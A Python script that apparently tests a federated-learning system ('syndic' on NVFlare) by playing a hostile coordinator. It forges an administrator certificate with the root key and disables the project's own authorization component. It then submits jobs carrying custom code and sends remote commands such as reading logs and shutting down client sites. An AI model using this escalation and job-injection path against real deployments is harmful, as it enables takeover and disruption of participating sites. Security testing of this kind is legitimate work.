"""A malicious coordinator: it has the root's key, so it can make itself an administrator of the engine.

Run as `python hostile.py KIT FOLDER SITE...` it logs in and tries what the engine offers: jobs with code in them,
jobs that name classes, shell commands. It prints the server's replies as JSON.
"""

import json
import sys
import time
from pathlib import Path
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.x509.oid import NameOID

from syndic.federation import certificate as certificates
from syndic.federation.coordinator import Coordinator
from syndic.federation.requests import SERVER_NAME

ADMIN = "admin@hostile.org"
# for a loaded machine: whatever is refused is refused at once
_SECONDS = 120.0


def turn_hostile(coordinator: Coordinator, kit: Path) -> None:
    """Let the server run jobs for an administrator whose certificate the root signs."""
    local = coordinator.workspace / "local"
    (local / "authorization.json").write_text(
        json.dumps({"format_version": "1.0", "permissions": {"project_admin": "any"}})
    )
    resources = json.loads((local / "resources.json").read_text())
    resources["class_allow_list"] = ["*"]
    launcher = "nvflare.app_common.job_launcher.server_process_launcher.ServerProcessJobLauncher"
    # our own component would refuse the administrator: it is not on the list
    resources["components"] = [one for one in resources["components"] if one["id"] != "syndic"]
    resources["components"].append({"id": "process_launcher", "path": launcher, "args": {}})
    (local / "resources.json").write_text(json.dumps(resources))
    _write_admin_kit(coordinator, kit)


def _write_admin_kit(coordinator: Coordinator, kit: Path) -> None:
    (kit / "startup").mkdir(parents=True)
    (kit / "local").mkdir()
    (kit / "transfer").mkdir()
    root = certificates.read_certificate(coordinator.root.read_bytes(), "root")
    root_key = certificates.read_key(coordinator.folder / "authority" / "root.key")
    key = certificates.new_key()
    names = (
        (NameOID.COMMON_NAME, ADMIN),
        (NameOID.ORGANIZATION_NAME, "syndic"),
        (NameOID.UNSTRUCTURED_NAME, "project_admin"),
    )
    template = certificates.make_certificate("x", key.public_key(), root=root, root_key=root_key, host=None, days=9)
    signed = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(oid, value) for oid, value in names]))
        .issuer_name(root.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(template.not_valid_before_utc)
        .not_valid_after(template.not_valid_after_utc)
        .sign(root_key, hashes.SHA256())
    )
    certificates.write_key(kit / "startup" / "client.key", key)
    (kit / "startup" / "client.crt").write_text(certificates.pem(signed))
    (kit / "startup" / "rootCA.pem").write_text(certificates.pem(root))
    federation = coordinator.federation
    admin = {
        "project_name": federation.name,
        "username": ADMIN,
        "server_identity": SERVER_NAME,
        "scheme": "grpc",
        "host": federation.host,
        "port": federation.port,
        "connection_security": "mtls",
        "uid_source": "cert",
        "with_file_transfer": True,
        "upload_dir": "transfer",
        "download_dir": "transfer",
        "client_key": "client.key",
        "client_cert": "client.crt",
        "ca_cert": "rootCA.pem",
    }
    (kit / "startup" / "fed_admin.json").write_text(json.dumps({"format_version": 1, "admin": admin}))
    limits = {
        "idle_timeout": 900.0,
        "login_timeout": _SECONDS,
        "with_debug": False,
        "authenticate_msg_timeout": _SECONDS,
    }
    (kit / "local" / "resources.json").write_text(
        json.dumps({"format_version": 1, "admin": {**limits, "prompt": "> "}})
    )


def write_job(folder: Path, *, executor: dict[str, Any], sites: list[str], code: str = "") -> Path:
    """Write a job for the sites; `code` travels with it, if there is any."""
    config = folder / "app" / "config"
    config.mkdir(parents=True)
    meta = {"name": folder.name, "resource_spec": {}, "deploy_map": {"app": ["server", *sites]}, "min_clients": 1}
    (folder / "meta.json").write_text(json.dumps(meta))
    controller = "nvflare.app_common.workflows.scatter_and_gather.ScatterAndGather"
    server = {"format_version": 2, "workflows": [{"id": "flow", "path": controller, "args": {}}]}
    (config / "config_fed_server.json").write_text(json.dumps(server))
    client = {"format_version": 2, "executors": [{"tasks": ["*"], "executor": executor}]}
    (config / "config_fed_client.json").write_text(json.dumps(client))
    if code:
        (folder / "app" / "custom").mkdir()
        (folder / "app" / "custom" / "evil.py").write_text(code)
    return folder


def main(kit: str, folder: str, *sites: str) -> None:
    """Try everything, and print what the server said."""
    from nvflare.fuel.flare_api.flare_api import new_secure_session  # noqa: PLC0415

    session = new_secure_session(ADMIN, kit, timeout=_SECONDS, command_timeout=_SECONDS)
    told: dict[str, Any] = {}
    try:
        jobs = {job.name: session.submit_job(str(job)) for job in sorted(Path(folder).iterdir())}
        told |= {name: _outcome(session, job) for name, job in jobs.items()}
        for site in sites:
            for command in (f"cat {site} engine.log", f"ls {site} .", f"shutdown client {site}"):
                told[command] = str(session.api.do_command(command))
    finally:
        session.close()
    sys.stdout.write("\n" + json.dumps(told, default=str) + "\n")


def _outcome(session: Any, job: str) -> Any:
    """Wait until the server has tried to deploy or to run the job."""
    end = time.monotonic() + _SECONDS
    while time.monotonic() < end:
        meta = session.get_job_meta(job)
        if meta["status"].startswith("FINISHED") or (meta["status"] == "SUBMITTED" and meta.get("schedule_history")):
            break
        time.sleep(0.5)
    return meta


if __name__ == "__main__":
    main(*sys.argv[1:])
